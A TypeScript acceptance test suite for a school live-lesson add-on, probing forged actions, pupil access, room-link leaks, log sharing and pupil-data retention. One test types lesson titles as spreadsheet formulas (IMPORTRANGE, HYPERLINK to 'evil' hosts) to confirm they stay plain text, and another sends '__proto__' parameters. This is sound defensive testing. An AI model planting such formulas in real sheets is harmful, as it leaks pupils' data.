// Acceptance probe of authority and privacy (R5, R7, R15, R18, R20, R27), written from the
// requirements, the policies (000 "only the teacher", 004 "access to images limited to approved
// staff") and Google's contracts rather than from the product's code: every other adult of the
// school and a pupil forging the card actions of a lesson that is not theirs, made-up and
// oversized card actions, a lesson title typed as a formula, a pupil opening the add-on (and one
// who made their own Classroom class), a pupil added as a guest of the lesson's event, who can
// open the log, a teacher taken off the class after scheduling, the script's own logs over a
// day with unusual names, and what is left of pupils in the script's store 31 days on. Each test
// drives the shipped bundle and asserts what the simulated Classroom, Meet, Calendar, Drive,
// the log, the script's logs and the outbox hold.
//
// Already proved elsewhere, so not repeated here: a teacher replaying each card action with
// another teacher's lesson id (`sidebar-cards.test.ts`), an approver deciding their own lesson
// (`sidebar-cards.test.ts`) and a non-approver deciding (`sidebar-approver.test.ts`), staff other
// than the lesson's teacher or second adult reporting an incident or writing its log
// (`sidebar-incident.test.ts`, `log-entries.test.ts`), who can open the recordings folder and a
// collected recording (`recordings.test.ts`), Calendar changes by someone else
// (`lesson-changes.test.ts`), and the OAuth scopes (`least-privilege.test.ts`).
//
// Tests marked `it.failing` pin a defect found by this probe: they pass while the product falls
// short of the policy and start failing (so someone looks) once it is fixed. Each says which
// assertion fails today and what the Workspace held instead.

import { cardsOf, eventObject, type FormValue, notificationOf, texts } from '../sim/card-driver';
import { DeployedSchool, MIN, monday } from './deployed-school';
import { postLives, scheduleWithTypedSecondAdult } from './in-call-kit';
import {
  admit,
  flagCodes,
  lessonWithClass,
  reportRemovedPupil,
  roomLink,
  type Scheduled,
  scheduleFor,
  teacherJoinsAndShares,
  world,
} from './scenario-kit';
import { nameStaffClass } from './staff-class-kit';

const NOT_YOURS = 'Only the teacher who scheduled this lesson can do that.';

/** Runs a card action of the shipped bundle as `user` with the parameters a forged event carries. */
function forge(
  school: DeployedSchool,
  user: string,
  functionName: string,
  parameters: Record<string, string>,
  formInputs: Record<string, FormValue> = {},
): unknown {
  return school.run(functionName, eventObject({ parameters, formInputs }), user);
}

/** Every string a response shows or carries (cards, notification, action parameters). */
function shown(response: unknown): string {
  return JSON.stringify(response);
}

describe('only the lesson’s own teacher acts on it (policy 000, R6, R10)', () => {
  it('refuses every lesson button forged by its second adult, a co-teacher of the class, the approver, SLT, the DSL and a pupil, and changes nothing of the running lesson', () => {
    const { school, s, link, ws } = lessonWithClass();
    const { head, slt, dsl, teachers } = school.school;
    // Another class's teacher is also a co-teacher of this class in Classroom.
    ws.classroom.addTeacher(s.course.id, teachers[1]!.email);
    const pupil = s.course.pupils[0]!.email;
    const code = school.lesson(s.lessonId).room!.meetingCode;
    expect(ws.classroom.announcementsVisibleTo(pupil, s.course.id)).toHaveLength(1);
    const before = world(school, s);
    const people = {
      'second adult': s.course.assistant.email,
      'co-teacher': teachers[1]!.email,
      approver: head.email,
      SLT: slt.email,
      DSL: dsl.email,
      pupil,
    };
    const actions = [
      'open',
      'share',
      'end',
      'chat',
      'consent',
      'parent-present',
      'ask-end',
      'log',
      'incident',
      'back',
    ];
    const answers: Record<string, string> = {};
    for (const [who, email] of Object.entries(people)) {
      for (const action of actions) {
        const response = forge(
          school,
          email,
          'lessonAction',
          { lessonId: s.lessonId, action },
          action === 'chat' ? { pupilChat: ['on'] } : {},
        );
        answers[`${who} ${action}`] = notificationOf(response) ?? '';
        // Not one of them is handed the room's link on the card that comes back.
        expect(shown(response)).not.toContain(code);
      }
      const opened = forge(school, email, 'showLesson', { lessonId: s.lessonId });
      expect(shown(opened)).not.toContain(code);
      // A refusal ("You can only open your own lessons"; the approver: "already open"), no card.
      expect(notificationOf(opened)).not.toBe('');
      expect(cardsOf(opened).map((c) => c.name ?? '')).not.toContain(`lesson:${s.lessonId}`);
    }
    expect(answers).toEqual(Object.fromEntries(Object.keys(answers).map((k) => [k, NOT_YOURS])));
    expect(world(school, s)).toBe(before);
    // The class is still in the call with the link on its stream, chat still for hosts only.
    expect(ws.meet.participantsNow(link)).toHaveLength(2 + s.course.pupils.length);
    expect(JSON.stringify(ws.meet.spaceInfo(link))).toContain('"chatRestriction":"HOSTS_ONLY"');
    expect(ws.classroom.announcementsVisibleTo(pupil, s.course.id)).toHaveLength(1);
  });
});

describe('a card action is only a request (R28: bad input gets a clear message and loses nothing)', () => {
  it('answers made-up, missing and 20,000-character card parameters with a plain message, and changes nothing of the running lesson', () => {
    const { school, s, link, ws } = lessonWithClass();
    const teacher = s.course.teacher.email;
    const huge = `${'L-'}${'9'.repeat(19_998)}`;
    const words = `Zebedee ${'x'.repeat(19_990)}`;
    const before = world(school, s);
    const failuresBefore = ws.kernel.failures.length;
    const logsBefore = ws.kernel.logs.length;
    const tries: [string, Record<string, string>, Record<string, FormValue>?][] = [
      ['lessonAction', { lessonId: s.lessonId, action: 'delete-everything' }],
      ['lessonAction', { lessonId: s.lessonId, action: words }],
      ['lessonAction', { lessonId: s.lessonId }],
      ['lessonAction', { action: 'end' }],
      ['lessonAction', { lessonId: 'L-20261123-nosuch', action: 'end' }],
      ['lessonAction', { lessonId: huge, action: 'share' }],
      ['lessonAction', { lessonId: '__proto__', action: 'end' }],
      ['lessonAction', { lessonId: 'constructor', action: 'open' }],
      ['showLesson', {}],
      ['showLesson', { lessonId: huge }],
      ['showLesson', { lessonId: '__proto__' }],
      ['showIncidentForm', { lessonId: huge }],
      ['reportIncidentAction', { lessonId: huge }, { details: words, action: words }],
      ['submitLogAction', { lessonId: huge }, { technologyIssues: words }],
      ['submitLogAction', {}, { shareWithSlt: words }],
      ['decideAction', { lessonId: s.lessonId, decision: 'approve' }],
      ['decideAction', { lessonId: huge, decision: words }],
      ['clearFollowUpAction', { incidentId: huge }],
      ['showHome', { today: '-1', week: 'NaN', approvals: '1e300' }],
    ];
    const answers = tries.map(([fn, parameters, inputs]) => {
      const response = forge(school, teacher, fn, parameters, inputs ?? {});
      const note = notificationOf(response) ?? '';
      // A plain sentence or a card of the add-on: never the 20,000 characters sent back.
      expect(note.length).toBeLessThan(400);
      expect(shown(response)).not.toContain('9'.repeat(1000));
      expect(shown(response)).not.toContain('x'.repeat(1000));
      return `${fn}: ${note}`;
    });
    // Each one that names no lesson of this teacher's, or no action, says so in words.
    expect(answers.filter((a) => /: $/.test(a))).toEqual(['showHome: ']);
    expect(answers).toContain('lessonAction: That action is not available.');
    expect(ws.kernel.failures.length).toBe(failuresBefore);
    expect(world(school, s)).toBe(before);
    // Nothing reached the log from any of them; the script's log kept no 20,000 characters.
    school.advance(3 * MIN);
    const sessions = JSON.stringify(school.sessions());
    expect(sessions).not.toContain('Zebedee');
    expect(sessions).not.toContain('9'.repeat(100));
    const printed = ws.kernel.logs.slice(logsBefore).map((l) => l.message);
    expect(printed.filter((m) => m.length > 500)).toEqual([]);
    // The lesson runs on: the link on Classroom, the class in the call.
    expect(
      ws.classroom.announcementsVisibleTo(s.course.pupils[0]!.email, s.course.id),
    ).toHaveLength(1);
    expect(ws.meet.participantsNow(link)).toHaveLength(2 + s.course.pupils.length);
  });
});

describe('what a teacher types never becomes a formula in the log (R18, R20)', () => {
  it('keeps lesson titles typed as formulas plain text in the Sessions sheet and on the dashboard, from scheduling to the close', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const titles = [
      '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/evil","Sessions!A:Z")',
      '+HYPERLINK("https://evil.example/"&A2,"Open")',
      '@SUM(Attendance!A:A)',
      '-1+2',
    ];
    const lessons = titles.map((title, i) =>
      scheduleFor(school, { title, start: monday(10 + i, 0), minutes: 30 }),
    );
    school.advance(2 * MIN);
    const session = (id: string) => String(school.sessionRow(id)?.Session ?? '');
    // In the log from the moment it is scheduled (R3), as the text typed.
    lessons.forEach((l, i) => {
      expect(session(l.lessonId)).toBe(`${titles[i]} (${l.course.name})`);
    });
    expect(ws.sheets.formulaCells(school.logId)).toEqual([]);
    // Each lesson runs: the teacher joins, the class comes, the call is ended; rows close.
    for (const [i, l] of lessons.entries()) {
      school.advanceTo(monday(9 + i, 55));
      const link = roomLink(school, l);
      admit(school, l, link, [l.course.teacher.email, l.course.assistant.email]);
      school.advance(MIN);
      admit(
        school,
        l,
        link,
        l.course.pupils.slice(0, 2).map((p) => p.email),
      );
    }
    school.advanceTo(monday(14));
    lessons.forEach((l, i) => {
      expect(school.sessionRow(l.lessonId)?.Status).toBe('closed');
      expect(session(l.lessonId)).toBe(`${titles[i]} (${l.course.name})`);
    });
    expect(ws.sheets.formulaCells(school.logId)).toEqual([]);
    // SLT's dashboard lists this week's lessons by the same text.
    const dashboard = ws.sheets.table(school.logId, 'Dashboard').map((row) => String(row[2]));
    for (const [i, l] of lessons.entries())
      expect(dashboard).toContain(`${titles[i]} (${l.course.name})`);
  });
});

describe('a pupil who opens the add-on (R5: only staff schedule or host)', () => {
  it('sees no lesson, no room link and no other pupil’s name, and can schedule nothing for their own class', () => {
    const { school, s, ws } = lessonWithClass();
    const [pupil, classmate] = s.course.pupils;
    const code = school.lesson(s.lessonId).room!.meetingCode;
    const before = world(school, s);
    const storeBefore = Object.keys(ws.properties.scriptStore()).length;
    const side = school.sidebar(pupil!.email);
    const home = side.home();
    const form = side.next(side.click(home, 'Schedule a lesson'));
    const seen = [...texts(home), ...texts(form)].join('\n');
    expect(seen).not.toContain(s.lessonId);
    expect(seen).not.toContain('Phonics');
    expect(seen).not.toContain(classmate!.name);
    expect(shown(home) + shown(form)).not.toContain(code);
    expect(seen).toContain('Google Classroom lists no active classes that you teach.');
    // The schedule button sent with their own class's id, as a crafted request would.
    const response = forge(
      school,
      pupil!.email,
      'scheduleLessonAction',
      {},
      {
        courseId: s.course.id,
        title: 'Our own lesson',
        start: { msSinceEpoch: monday(11), hasDate: true, hasTime: true },
        minutes: '30',
      },
    );
    expect(notificationOf(response)).toBe(
      'You can only schedule lessons for classes you teach in Google Classroom.',
    );
    expect(ws.calendar.events(pupil!.email)).toEqual([]);
    expect(Object.keys(ws.properties.scriptStore())).toHaveLength(storeBefore);
    expect(world(school, s)).toBe(before);
    // Their homepage does not show the lesson running for their class right now.
    expect(texts(home)).toContain('No live lessons today.');
  });

  // Google: with Classroom's default "All pending and verified teachers" (or "Anyone in your
  // domain") a pupil who says "I am a teacher" can create classes and teach them
  // (https://support.google.com/edu/classroom/answer/6071551, "Decide who is allowed to create a
  // class"). Fails today at the first assertion: the pupil's lesson is scheduled ("Lesson
  // scheduled. Flagged for SLT: No second member of staff named…") and at 09:50 the automation
  // opens a Meet room owned by the pupil, who hosts it and can put its link on "their" class's
  // stream. The product tells staff from pupils only by the e-mail domain (`staffDomain`) and by
  // Classroom's "teaches this course" (src/core/schedule-policy.ts, src/app/schedule-lesson.ts);
  // a school whose pupils share the staff domain has no check that the host is staff. Under the
  // default settings this stays so: the pupil teaches the class in Classroom like any teacher, and
  // nothing Google documents that the product can read without new rights marks the account as a
  // pupil's (src/app/staff-class.ts weighs each way). "A pupil in some class" would refuse real
  // teachers who sit as students in a staff training class, so it is not used. The settings
  // `verifiedTeachersOnly` and `staffClass` each close it (below).
  it.failing('does not let a pupil who made their own Classroom class schedule a live lesson or host a room', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const [pupil, ...classmates] = school.school.courses[0]!.pupils;
    const club = ws.classroom.addCourse({ name: 'Gaming club', ownerEmail: pupil!.email });
    for (const c of classmates) ws.classroom.addStudent(club, c.email);
    const result = school
      .sidebar(pupil!.email)
      .schedule({ title: 'Hangout', start: monday(10), minutes: 30, courseId: club });
    expect(result.lessonId).toBeNull();
    school.advanceTo(monday(10, 5));
    expect(ws.meet.spaces.size).toBe(0);
    expect(ws.calendar.events(pupil!.email)).toEqual([]);
  });
});

describe('a school that names its staff class in Classroom (R5, staffClass)', () => {
  it('does not let a pupil who made their own Classroom class schedule a live lesson or host a room, and tells them why', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    nameStaffClass(school);
    const [pupil, ...classmates] = school.school.courses[0]!.pupils;
    const club = ws.classroom.addCourse({ name: 'Gaming club', ownerEmail: pupil!.email });
    for (const c of classmates) ws.classroom.addStudent(club, c.email);
    const result = school
      .sidebar(pupil!.email)
      .schedule({ title: 'Hangout', start: monday(10), minutes: 30, courseId: club });
    expect(result).toEqual({
      lessonId: null,
      message:
        'Only members of the school’s staff class in Google Classroom can schedule live lessons. If you are staff, ask SLT to add you to it.',
    });
    school.advanceTo(monday(10, 5));
    expect(ws.meet.spaces.size).toBe(0);
    expect(ws.calendar.events(pupil!.email)).toEqual([]);
    expect(school.lessons()).toEqual([]);
    expect(JSON.stringify(ws.mail.outbox())).not.toContain('Hangout');
  });

  it('still lets a teacher the staff class lists schedule, and run the lesson as usual', () => {
    const school = new DeployedSchool();
    nameStaffClass(school);
    const course = school.school.courses[0]!;
    // Typed: the staff room class, the newest, is the form's first class and its picker's.
    const s = scheduleWithTypedSecondAdult(school, course.assistant.email);
    expect(school.lesson(s.lessonId).status).toBe('scheduled');
    school.advanceTo(monday(9, 55));
    teacherJoinsAndShares(school, s);
    expect(postLives(school, course.id)).toHaveLength(1);
  });

  it('tells a teacher the staff class does not list (or a staff class that is not there) plainly, and makes nothing', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const newcomer = ws.kernel.directory.add({
      email: `new.teacher@${school.school.domain}`,
      name: 'New Teacher',
      kind: 'staff',
    });
    const course = ws.classroom.addCourse({ name: 'Year 9 Art', ownerEmail: newcomer.email });
    ws.classroom.addStudent(course, school.school.courses[0]!.pupils[0]!.email);
    nameStaffClass(school);
    const schedule = () =>
      school
        .sidebar(newcomer.email)
        .schedule({ title: 'Art', start: monday(10), minutes: 30, courseId: course });
    expect(schedule().message).toBe(
      'Only members of the school’s staff class in Google Classroom can schedule live lessons. If you are staff, ask SLT to add you to it.',
    );
    school.writeSettings({ staffClass: '600000999999' });
    school.run('setup', {}, school.school.automation.email, 'editor');
    expect(schedule().message).toBe(
      'The staff class named in the school’s settings (staffClass) is not in Google Classroom, so nobody can be checked as staff. Ask SLT to correct the setting.',
    );
    expect(school.lessons()).toEqual([]);
    expect(ws.calendar.events(newcomer.email)).toEqual([]);
  });
});

describe('a school that lets only verified teachers schedule (R5, verifiedTeachersOnly = yes)', () => {
  const VERIFIED_ONLY = { verifiedTeachersOnly: 'yes' };
  const REFUSED =
    'Only teachers verified in Google Classroom by the school’s administrator can schedule live lessons. If you teach here, ask your Google Workspace administrator to verify you as a teacher in Classroom.';

  /** A pupil of the school who made a Classroom class of their own and put classmates in it. */
  function pupilWithOwnClass(school: DeployedSchool) {
    const { ws } = school;
    const [pupil, ...classmates] = school.school.courses[0]!.pupils;
    const club = ws.classroom.addCourse({ name: 'Gaming club', ownerEmail: pupil!.email });
    for (const c of classmates) ws.classroom.addStudent(club, c.email);
    return { pupil: pupil!, club };
  }

  it('refuses the pupil who made their own class in plain words, and no room, event, row or email follows', () => {
    const school = new DeployedSchool({ settings: VERIFIED_ONLY });
    const { ws } = school;
    const { pupil, club } = pupilWithOwnClass(school);
    const result = school
      .sidebar(pupil.email)
      .schedule({ title: 'Hangout', start: monday(10), minutes: 30, courseId: club });
    expect(result.lessonId).toBeNull();
    expect(result.message).toBe(REFUSED);
    school.advanceTo(monday(10, 5));
    expect(ws.meet.spaces.size).toBe(0);
    expect(ws.calendar.events(pupil.email)).toEqual([]);
    expect(school.lessons()).toEqual([]);
    expect(JSON.stringify(ws.mail.outbox())).not.toContain('Hangout');
  });

  it('refuses a member of staff the administrator has not verified, though they teach the class', () => {
    const school = new DeployedSchool({ settings: VERIFIED_ONLY });
    const { ws } = school;
    const newcomer = ws.kernel.directory.add({
      email: `new.teacher@${school.school.domain}`,
      name: 'New Teacher',
      kind: 'staff',
    });
    const course = ws.classroom.addCourse({ name: 'Year 9 Art', ownerEmail: newcomer.email });
    ws.classroom.addStudent(course, school.school.courses[0]!.pupils[0]!.email);
    const result = school
      .sidebar(newcomer.email)
      .schedule({ title: 'Art', start: monday(10), minutes: 30, courseId: course });
    expect(result).toEqual({ lessonId: null, message: REFUSED });
    // Once the administrator verifies them (and the ten minutes the answer is kept have passed),
    // the same lesson is scheduled.
    ws.classroom.verifyTeacher(newcomer.email);
    school.advanceTo(monday(8, 0) + 11 * MIN);
    const again = school
      .sidebar(newcomer.email)
      .schedule({ title: 'Art', start: monday(10), minutes: 30, courseId: course });
    expect(again.lessonId).not.toBeNull();
  });

  it('schedules and runs a verified teacher’s lesson as usual: room, link once the teacher is in, row', () => {
    const school = new DeployedSchool({ settings: VERIFIED_ONLY });
    const s = scheduleFor(school);
    expect(s.lessonId).not.toBeNull();
    school.advanceTo(monday(9, 55));
    teacherJoinsAndShares(school, s);
    expect(postLives(school, s.course.id)).toHaveLength(1);
    school.advanceTo(monday(10, 45));
    expect(postLives(school, s.course.id)[0]!.deleted).not.toBeNull();
    expect(school.sessionRow(s.lessonId)?.Status).toBe('closed');
  });

  it('says nothing was lost and makes nothing when Classroom does not answer whether the teacher is verified', () => {
    const school = new DeployedSchool({ settings: VERIFIED_ONLY });
    const { ws } = school;
    const course = school.school.courses[0]!;
    ws.kernel.faults.inject({ match: 'classroom.userProfiles.get', kind: 503 });
    const result = school
      .sidebar(course.teacher.email)
      .schedule({ title: 'Phonics', start: monday(10), minutes: 30, courseId: course.id });
    ws.kernel.faults.clear();
    expect(result.lessonId).toBeNull();
    expect(result.message).toMatch(/Nothing was lost: please try again/);
    expect(result.message).not.toContain('verified');
    expect(ws.calendar.events(course.teacher.email)).toEqual([]);
    expect(school.lessons()).toEqual([]);
  });
});

describe('the room link never reaches a pupil by Calendar (R5, R7)', () => {
  /** The teacher sets the event's guests in Google Calendar's own editor (not through the add-on). */
  function inviteInCalendar(school: DeployedSchool, s: Scheduled, attendees: { email?: string }[]) {
    const { ws } = school;
    const teacher = s.course.teacher.email;
    const event = ws.calendar.events(teacher)[0]!;
    const edit = ws.kernel.runExecution(
      { user: teacher, kind: 'editor', functionName: 'calendarUi' },
      () =>
        ws.calendar
          .advancedService()
          .Events.patch({ attendees }, 'primary', event.id!, { sendUpdates: 'all' }),
    );
    expect(edit.ok).toBe(true);
  }

  // Found by this probe: the automation wrote the room link onto the lesson's event at 09:50
  // without looking at its guests, so a pupil the teacher had invited in Calendar held the link
  // before the teacher was in the call. The calendar sync now notes guests who are not the
  // lesson's staff; while there are any, the link is kept off the event, and the teacher is told.
  it('keeps the link off the event of a lesson whose teacher added a pupil as a guest, and flags it for SLT', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const s = scheduleFor(school);
    const pupil = s.course.pupils[0]!.email;
    const event = ws.calendar.events(s.course.teacher.email)[0]!;
    // The teacher invites a pupil in Calendar (Google's own event editor).
    inviteInCalendar(school, s, [...(event.attendees ?? []), { email: pupil }]);
    school.advanceTo(monday(9, 55));
    const link = roomLink(school, s);
    const code = school.lesson(s.lessonId).room!.meetingCode;
    expect(JSON.stringify(ws.calendar.events(pupil))).not.toContain(code);
    expect(
      school
        .emailsTo(pupil)
        .map((m) => m.body)
        .join('\n'),
    ).not.toContain(code);
    expect(String(school.sessionRow(s.lessonId)?.Flags ?? '')).toMatch(/pupil|guest/i);
    expect(link).toContain(code);
    // The pupil opening their copy of the event in the Calendar sidebar sees no flag for SLT.
    const asPupil = texts(
      school.run(
        'onCalendarEventOpen',
        { calendar: { id: event.id, calendarId: 'primary' } },
        pupil,
      ),
    ).join('\n');
    expect(asPupil).toContain('Phonics');
    expect(asPupil).not.toMatch(/Flags for SLT|guest/);
    expect(asPupil).not.toContain(code);
  });

  it('takes the link off the event when the teacher invites a pupil after the room opened, tells the teacher once, and puts it back once only staff are guests', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const s = scheduleFor(school);
    const teacher = s.course.teacher.email;
    const pupil = s.course.pupils[0]!.email;
    const staffGuests = [{ email: s.course.assistant.email }];
    const onEvent = () => JSON.stringify(ws.calendar.events(teacher)[0]);
    school.advanceTo(monday(9, 52));
    const code = school.lesson(s.lessonId).room!.meetingCode;
    expect(onEvent()).toContain(code);

    inviteInCalendar(school, s, [...staffGuests, { email: pupil }]);
    school.advance(MIN);
    expect(onEvent()).not.toContain(code);
    expect(JSON.stringify(ws.calendar.events(pupil))).not.toContain(code);
    const told = school
      .mailTo(teacher)
      .filter((m) =>
        m.subject.startsWith('Safe Live Lessons: the room link is kept off the event'),
      );
    expect(told).toHaveLength(1);
    expect(told[0]!.body).not.toContain(code);

    // The teacher takes the pupil off the event: the link is back on it within a minute or two.
    inviteInCalendar(school, s, staffGuests);
    school.advance(2 * MIN);
    expect(onEvent()).toContain(code);
    expect(
      school.mailTo(teacher).filter((m) => m.subject.includes('kept off the event')),
    ).toHaveLength(1);
  });
});

describe('teachers need no access to the log (R20, policy 004)', () => {
  it('lets only SLT, the DSL and the automation open the log, and setup flags it shared by link or with a teacher', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const { automation, slt, dsl, teachers, courses } = school.school;
    const pupil = courses[0]!.pupils[0]!.email;
    const opens = (user: string) => {
      try {
        ws.sheets.filterViewAsUser(user, school.logId, 'Sessions', 'Status', 'closed');
        return true;
      } catch {
        return false;
      }
    };
    const sharing = ws.sheets.sharing(school.logId);
    expect(sharing.owner).toBe(automation.email);
    expect([...sharing.editors].sort()).toEqual([dsl.email, slt.email].sort());
    expect(sharing.viewers).toEqual([]);
    expect(ws.drive.permissionsOf(school.logId).map((p) => `${p.type}:${p.emailAddress}`)).toEqual([
      `user:${automation.email}`,
    ]);
    expect([slt.email, dsl.email].map(opens)).toEqual([true, true]);
    expect([teachers[0]!.email, courses[0]!.assistant.email, pupil].map(opens)).toEqual([
      false,
      false,
      false,
    ]);
    // Someone opens the log's Share dialog: "Anyone with the link" can view, and a teacher too.
    ws.drive.share(school.logId, { type: 'anyone', role: 'reader' });
    ws.drive.share(school.logId, {
      type: 'user',
      role: 'reader',
      emailAddress: teachers[1]!.email,
    });
    expect(opens(pupil)).toBe(true);
    const report = school.run('setup', {}, automation.email, 'editor') as {
      ok: boolean;
      lines: string[];
    };
    expect(report.ok).toBe(false);
    const flag = report.lines.find((l) => l.startsWith('FLAG Log sharing'));
    expect(flag).toContain('anyone who has the link');
    expect(flag).toContain(teachers[1]!.email);
    expect(report.lines.join('\n')).not.toMatch(/Log sharing: only SLT/);
  });
});

describe('a teacher taken off the class after scheduling (R7, R28)', () => {
  it('never gets the link onto the class’s stream, and is told why in plain words when they press Share, as SLT are', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const s = scheduleFor(school);
    const teacher = s.course.teacher.email;
    // The office hands the class to the TA and takes the teacher off it in Classroom.
    ws.classroom.transferOwnership(s.course.id, s.course.assistant.email);
    ws.classroom.removeTeacher(s.course.id, teacher);
    school.advanceTo(monday(9, 55));
    const link = roomLink(school, s);
    expect(ws.meet.join(teacher, link)).toBe('joined');
    school.advance(2 * MIN);
    const said = s.teacher.act(s.lessonId, 'Share with class');
    expect(said).toMatch(/no longer be a teacher of this class in Classroom/);
    expect(said).toMatch(/Pupils do not have the link/);
    expect(said).not.toMatch(/try again/i);
    school.advanceTo(monday(11));
    expect(ws.classroom.allAnnouncements(s.course.id)).toEqual([]);
    for (const who of [teacher, school.school.slt.email])
      expect(school.mailTo(who).filter((m) => /^Link NOT shared/.test(m.subject))).toHaveLength(1);
    expect(String(school.sessionRow(s.lessonId)?.Flags)).toMatch(/teacher-not-on-class/);
  });
});

/** Pupils with names a school really has: accents, apostrophes, hyphens, other scripts. */
const UNUSUAL = [
  { email: 'zephyrine.oconnor-ngata@kenilworth.sch.uk', name: 'Zéphyrine O’Connor-Ngata' },
  { email: 'thorunn.aegisdottir@kenilworth.sch.uk', name: 'Þórunn Ægisdóttir' },
  { email: 'siobhan.nibhriain@kenilworth.sch.uk', name: 'Siobhán Ní Bhriain' },
  { email: 'wang.xiuying@kenilworth.sch.uk', name: '王秀英 Wang' },
  { email: 'dwayne.o.tooley@kenilworth.sch.uk', name: 'D\'Wayne =HYPERLINK("x") Tooley' },
];

describe('no pupil data in the script’s own logs (R20)', () => {
  it('prints no pupil’s name, address or account id over a lesson day with an incident, an intruder, a removed pupil rejoining and Classroom failing', () => {
    const school = new DeployedSchool();
    const { ws } = school;
    const [classA, classB] = school.school.courses;
    const added = UNUSUAL.map((p) => ws.kernel.directory.add({ ...p, kind: 'pupil' }));
    for (const p of added.slice(0, 3)) ws.classroom.addStudent(classA!.id, p.email);
    for (const p of added.slice(2)) ws.classroom.addStudent(classB!.id, p.email);
    const a = scheduleFor(school, { course: 0, title: 'Phonics' });
    const b = scheduleFor(school, { course: 1, title: 'Spelling', start: monday(11) });

    // 10:00 class A: the class, an unusual pupil of class B uninvited, an outsider knocking.
    school.advanceTo(monday(9, 55));
    const linkA = roomLink(school, a);
    expect(ws.meet.join(a.course.teacher.email, linkA)).toBe('joined');
    school.advance(MIN);
    admit(school, a, linkA, [
      a.course.assistant.email,
      ...added.slice(0, 3).map((p) => p.email),
      added[4]!.email,
    ]);
    school.advanceTo(monday(10, 10));
    const removed = added[2]!;
    const form = a.teacher.next(
      a.teacher.click(a.teacher.lessonCard(a.lessonId), 'Report an incident'),
    );
    expect(
      a.teacher.note(
        a.teacher.click(form, 'Send to the DSL', {
          person: removed.email,
          role: 'O',
          nature: 'Inappropriate language or behaviour in the lesson',
          where: 'outside',
          details: `${removed.name} swore at ${added[0]!.name}.`,
          action: 'removed',
        }),
      ),
    ).toMatch(/^Sent to the DSL/);
    school.advanceTo(monday(10, 40));
    const log = a.teacher.next(
      a.teacher.click(a.teacher.lessonCard(a.lessonId), 'Write the lesson log'),
    );
    a.teacher.click(log, 'Send log', {
      inappropriateBehaviour: `${removed.name} removed; ${added[1]!.name} upset.`,
    });

    // 11:00 class B, with Classroom failing as its teacher joins: the removed pupil comes in.
    school.advanceTo(monday(10, 55));
    ws.kernel.faults.inject({ match: 'classroom.*', kind: 503 });
    const linkB = roomLink(school, b);
    expect(ws.meet.join(b.course.teacher.email, linkB)).toBe('joined');
    school.advance(4 * MIN);
    ws.kernel.faults.clear();
    school.advance(MIN);
    admit(school, b, linkB, [b.course.assistant.email, ...added.slice(2).map((p) => p.email)]);
    admit(school, b, linkB, [school.school.outsider.email]);
    school.advanceTo(monday(12));
    // The rest of the day and the night: recordings collected, the digest sent.
    school.advanceTo(monday(12) + 20 * 60 * MIN);
    expect(school.sessionRow(a.lessonId)?.Status).toBe('closed');
    expect(school.sessionRow(b.lessonId)?.Status).toBe('closed');
    expect(flagCodes(school.sessionRow(a.lessonId))).toEqual(
      expect.arrayContaining(['uninvited-participant', 'incident']),
    );
    expect(flagCodes(school.sessionRow(b.lessonId))).toEqual(
      expect.arrayContaining(['google-failed', 'removed-pupil-joined', 'external-participant']),
    );

    const printed = ws.kernel.logs.map((l) => l.message).join('\n');
    // The logs say what happened, by lesson id.
    expect(printed).toContain(a.lessonId);
    expect(printed).toContain(b.lessonId);
    const pupils = [...classA!.pupils, ...classB!.pupils, ...added];
    const leaks = pupils.flatMap((p) =>
      [p.name, ...p.name.split(/\s+/).filter((w) => w.length > 3 && added.includes(p)), p.email]
        .concat(p.email.split('@')[0]!, p.id)
        .filter((needle) => printed.includes(needle))
        .map((needle) => `${p.email}: ${needle}`),
    );
    expect(leaks).toEqual([]);
  });
});

describe('nothing of pupils outlives the retention period in the script’s own store (R17, R20, R27)', () => {
  it('keeps no pupil’s name or address in script or user properties or the cache 31 days after a lesson with an incident, once the DSL released its recording and SLT cleared the follow-up', () => {
    const { school, s, ws } = lessonWithClass();
    const DAY = 24 * 60 * MIN;
    const { slt, dsl } = school.school;
    const pupil = s.course.pupils[0]!;
    school.advanceTo(monday(10, 10));
    reportRemovedPupil(s, pupil.email, `${pupil.name} swore at ${s.course.pupils[1]!.name}.`);
    school.advanceTo(monday(11));
    const sltSide = school.sidebar(slt.email);
    expect(sltSide.note(sltSide.click(sltSide.home(), 'Followed up: clear'))).toMatch(/^Cleared/);
    expect(school.run('releaseRecording', s.lessonId, dsl.email, 'editor')).toMatch(/released/);
    const recording = String(school.sessionRow(s.lessonId)?.Recording ?? '');
    expect(recording).toMatch(/^https:\/\/drive\.google\.com\/file\/d\//);
    const fileId = recording.split('/')[5]!;
    // The school's days go by; each morning the automation's jobs run for three hours.
    for (const day of [1, 2, 4, 8, 9, 16, 29, 31, 32]) {
      ws.kernel.clock.advanceTo(monday(7) + day * DAY);
      school.advance(3 * 60 * MIN);
    }
    expect(ws.drive.exists(fileId)).toBe(false);
    const everything = JSON.stringify({
      script: ws.properties.scriptStore(),
      users: [s.course.teacher.email, s.course.assistant.email, slt.email, dsl.email].map((u) =>
        ws.properties.userStore(u),
      ),
      cache: ws.cache.scriptEntries(),
    });
    const left = s.course.pupils
      .flatMap((p) => [p.name, p.email, p.id])
      .filter((needle) => everything.includes(needle));
    expect(left).toEqual([]);
    expect(everything).not.toContain(s.lessonId);
  });
});
